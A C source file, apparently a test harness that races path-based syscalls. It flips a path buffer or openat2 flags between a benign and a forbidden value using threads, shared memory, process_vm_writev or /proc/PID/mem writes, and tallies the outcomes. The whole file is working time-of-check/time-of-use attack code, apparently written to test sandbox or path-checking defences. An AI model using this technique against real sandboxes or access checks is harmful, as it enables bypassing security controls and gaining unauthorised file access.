/*
 * Opens or makes what a path names while somebody else rewrites the path between two texts.
 *
 *   attack_flip METHOD CALL GOOD BAD SECONDS
 *
 * The texts have the same length and differ within eight bytes, so a flip is one store and whoever
 * reads sees one of the two. METHOD "how" rewrites the flags of openat2 instead, between reading
 * and truncating.
 */
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/uio.h>

#include "attack.h"

enum { STACK = 65536 };

struct page {
	_Alignas(64) char path[4096];
	struct open_how how;
	uint64_t values[2];
	volatile uint64_t *at; /* where they alternate */
	volatile int stop;
};

static struct page *page;
static pid_t victim;

static void flip_here(void)
{
	for (unsigned i = 0; !page->stop; i++) {
		*page->at = page->values[i & 1];
		pause_a_little(i);
	}
}

static void *flip_thread(void *unused)
{
	flip_here();
	return unused;
}

static int flip_process(void *unused)
{
	(void)unused;
	flip_here();
	syscall(SYS_exit, 0);
	return 0;
}

static void flip_by_writev(void)
{
	for (unsigned i = 0;; i++) {
		struct iovec local = {&page->values[i & 1], sizeof *page->values};
		struct iovec remote = {(void *)page->at, sizeof *page->values};

		if (process_vm_writev(victim, &local, 1, &remote, 1, 0) < 0)
			break;
	}
	if (errno != ESRCH)
		perror("process_vm_writev");
	_exit(1);
}

static void flip_by_memory_file(void)
{
	char name[64];
	int memory;

	(void)snprintf(name, sizeof name, "/proc/%d/mem", victim);
	memory = open(name, O_WRONLY);
	if (memory < 0) {
		perror(name);
		_exit(1);
	}
	for (unsigned i = 0;; i++)
		if (pwrite(memory, &page->values[i & 1], sizeof *page->values,
			    (off_t)(uintptr_t)page->at) <= 0)
			_exit(0);
}

/* The process that flips, or 0. */
static pid_t start_flipping(const char *method)
{
	pthread_t thread;
	pid_t pid = 0;

	victim = getpid();
	if (strcmp(method, "thread") == 0 || strcmp(method, "how") == 0)
		(void)pthread_create(&thread, NULL, flip_thread, NULL);
	else if (strcmp(method, "vm") == 0)
		pid = clone(flip_process, (char *)malloc(STACK) + STACK, CLONE_VM | SIGCHLD, NULL);
	else if ((pid = fork()) != 0)
		return pid;
	else if (strcmp(method, "shared") == 0)
		(void)flip_process(NULL);
	else if (strcmp(method, "writev") == 0)
		flip_by_writev();
	else if (strcmp(method, "memory") == 0)
		flip_by_memory_file();
	return pid;
}

static void prepare(const char *method, const char *good, const char *bad)
{
	size_t at = 0;

	if (strcmp(method, "how") == 0) {
		page->how.flags = O_RDONLY;
		page->at = (volatile uint64_t *)&page->how.flags;
		page->values[0] = O_RDONLY;
		page->values[1] = O_WRONLY | O_TRUNC;
		return;
	}
	while (good[at] == bad[at] && good[at] != '\0')
		at++;
	if (strlen(good) - at < sizeof *page->values)
		at = strlen(good) - sizeof *page->values;
	page->at = (volatile uint64_t *)(void *)(page->path + at);
	(void)memcpy(&page->values[0], good + at, sizeof *page->values);
	(void)memcpy(&page->values[1], bad + at, sizeof *page->values);
}

int main(int argc, char **argv)
{
	struct tally tally = {0};
	double start;
	pid_t flipper;

	if (argc != 6 || strlen(argv[3]) != strlen(argv[4]))
		return 2;
	page = mmap(NULL, sizeof *page, PROT_READ | PROT_WRITE,
		MAP_ANONYMOUS | (strcmp(argv[1], "shared") == 0 ? MAP_SHARED : MAP_PRIVATE), -1, 0);
	(void)alarm(20);
	write_path(page->path, argv[3], 0);
	prepare(argv[1], argv[3], argv[4]);
	flipper = start_flipping(argv[1]);
	start = seconds_now();
	for (int i = 0; goes_on(&tally, start, atof(argv[5])); i++) {
		write_path(page->path, argv[3], i);
		count(&tally, perform(argv[2], page->path, &page->how));
	}
	page->stop = 1;
	if (flipper > 0)
		(void)kill(flipper, SIGKILL);
	print_tally(&tally);
	return 0;
}
